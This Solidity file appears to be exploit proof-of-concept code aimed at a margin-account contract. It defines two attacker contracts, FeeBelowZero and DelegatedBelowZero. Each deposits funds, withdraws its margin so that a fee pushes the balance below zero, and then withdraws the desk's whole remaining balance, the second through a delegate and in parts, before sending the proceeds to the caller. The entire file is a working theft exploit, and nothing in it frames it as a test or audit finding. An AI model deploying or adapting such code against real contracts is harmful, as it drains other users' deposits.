// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IMarginAccount {
    function deposit() external payable;

    function withdraw(uint256 amount) external;

    function withdrawFor(address trader, uint256 amount) external;

    function setDelegate(address to) external;
}

/// Withdraws all of its margin, so that the fee takes the rest below zero, and then what is not its own.
contract FeeBelowZero {
    IMarginAccount immutable desk;

    constructor(IMarginAccount desk_) {
        desk = desk_;
    }

    function run() external payable {
        desk.deposit{value: msg.value}();
        desk.withdraw(msg.value);
        desk.withdraw(address(desk).balance);
        payable(msg.sender).transfer(address(this).balance);
    }

    receive() external payable {}
}

/// The same, withdrawn by a delegate and in several parts.
contract DelegatedBelowZero {
    IMarginAccount immutable desk;
    Delegate immutable helper;

    constructor(IMarginAccount desk_) {
        desk = desk_;
        helper = new Delegate();
    }

    function run(uint256 parts) external payable {
        desk.deposit{value: msg.value}();
        desk.setDelegate(address(helper));
        helper.withdraw(desk, address(this), msg.value);
        uint256 part = address(desk).balance / parts;
        for (uint256 i = 0; i < parts; i++) helper.withdraw(desk, address(this), part);
        payable(msg.sender).transfer(address(this).balance);
    }

    receive() external payable {}
}

contract Delegate {
    function withdraw(IMarginAccount desk, address trader, uint256 amount) external {
        desk.withdrawFor(trader, amount);
    }
}
